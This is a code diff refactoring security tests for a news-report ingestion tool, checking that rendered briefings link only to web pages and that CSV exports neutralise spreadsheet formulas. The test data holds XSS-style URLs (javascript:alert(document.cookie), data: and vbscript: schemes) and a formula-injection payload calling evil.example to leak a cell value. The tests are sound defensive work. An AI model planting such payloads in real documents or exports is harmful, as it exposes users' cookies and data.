@@ -191,25 +191,30 @@ def test_bad_database_urls_are_explained(tmp_path):
     with pytest.raises(StoreError, match="no such database"):
         Store(str(tmp_path / "absent.db"), create=False)
 
-
-@pytest.mark.parametrize("url", ["JaVaScRiPt:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
-                                 "vbscript:msgbox(1)", "https://news.example.org/story?id=1) [x](javascript:alert(2)"])
-def test_briefing_links_only_to_web_pages(tmp_path, url):
+def store_of_one_report(tmp_path, **fields) -> "Store":
+    """A store holding one self-written wire report, given as a JSONL record with these fields."""
     import json as jsonlib
 
     from flashpoint.ingest.reader import ReadOptions
     from flashpoint.pipeline import ingest
-    from flashpoint.report.brief import render_brief
-    from flashpoint.store import Store
 
+    record = {"published": "2025-03-12T08:00:00Z",
+              "text": "Russian artillery shelled a residential district of Kharkiv on Wednesday, "
+                      "killing three civilians, the regional governor said.", **fields}
     feed = tmp_path / "feed.jsonl"
-    feed.write_text(jsonlib.dumps({"url": url, "title": "Shelling in Kharkiv", "published": "2025-03-12T08:00:00Z",
-                                   "publisher": "Example Wire",
-                                   "text": "Russian artillery shelled a residential district of Kharkiv on Wednesday, "
-                                           "killing three civilians, the regional governor said."}) + "\n")
+    feed.write_text(jsonlib.dumps(record) + "\n")
     store = Store(str(tmp_path / "x.db"))
+    ingest([str(feed)], store, ReadOptions(fetch_links=False))
+    return store
+
+
+@pytest.mark.parametrize("url", ["JaVaScRiPt:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
+                                 "vbscript:msgbox(1)", "https://news.example.org/story?id=1) [x](javascript:alert(2)"])
+def test_briefing_links_only_to_web_pages(tmp_path, url):
+    from flashpoint.report.brief import render_brief
+
+    store = store_of_one_report(tmp_path, url=url, title="Shelling in Kharkiv", publisher="Example Wire")
     try:
-        ingest([str(feed)], store, ReadOptions(fetch_links=False))
         with store.connect() as conn:
             page = render_brief(conn, "2025-03-12", None, "html")
             md = render_brief(conn, "2025-03-12", None, "md")
@@ -223,26 +228,16 @@ def test_briefing_links_only_to_web_pages(tmp_path, url):
 
 def test_csv_exports_do_not_carry_spreadsheet_formulas(tmp_path):
     import csv as csvlib
-    import json as jsonlib
     import subprocess
     import sys
 
-    from flashpoint.ingest.reader import ReadOptions
-    from flashpoint.pipeline import ingest
     from flashpoint.report.export import write_export
-    from flashpoint.store import Store
     from flashpoint.store.queries import Filters
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    feed = tmp_path / "feed.jsonl"
-    feed.write_text(jsonlib.dumps({"url": "https://news.example.org/a", "publisher": hostile,
-                                   "published": "2025-03-12T08:00:00Z",
-                                   "text": "Russian artillery shelled a residential district of Kharkiv on Wednesday, "
-                                           "killing three civilians, the regional governor said."}) + "\n")
-    store = Store(str(tmp_path / "x.db"))
+    store = store_of_one_report(tmp_path, url="https://news.example.org/a", publisher=hostile)
+    out = tmp_path / "acled.csv"
     try:
-        ingest([str(feed)], store, ReadOptions(fetch_links=False))
-        out = tmp_path / "acled.csv"
         with store.connect() as conn:
             assert write_export(conn, Filters(), "acled-csv", out) >= 1
     finally:
@@ -251,7 +246,7 @@ def test_csv_exports_do_not_carry_spreadsheet_formulas(tmp_path):
     cells = [v for r in rows for v in r.values() if v]
     assert not [v for v in cells if v[0] in "=+@"] and any(v.startswith("'=HYPERLINK") for v in cells)
     assert rows[0]["fatalities"] == "3"  # numbers stay numbers
-    done = subprocess.run([sys.executable, "-m", "flashpoint.cli", "extract", str(feed), "-f", "csv", "-q"],
+    done = subprocess.run([sys.executable, "-m", "flashpoint.cli", "extract", str(tmp_path / "feed.jsonl"), "-f", "csv", "-q"],
                           capture_output=True, text=True, timeout=300)
     assert not [v for r in csvlib.DictReader(done.stdout.splitlines()) for v in r.values() if v and v[0] in "=+@"]
 
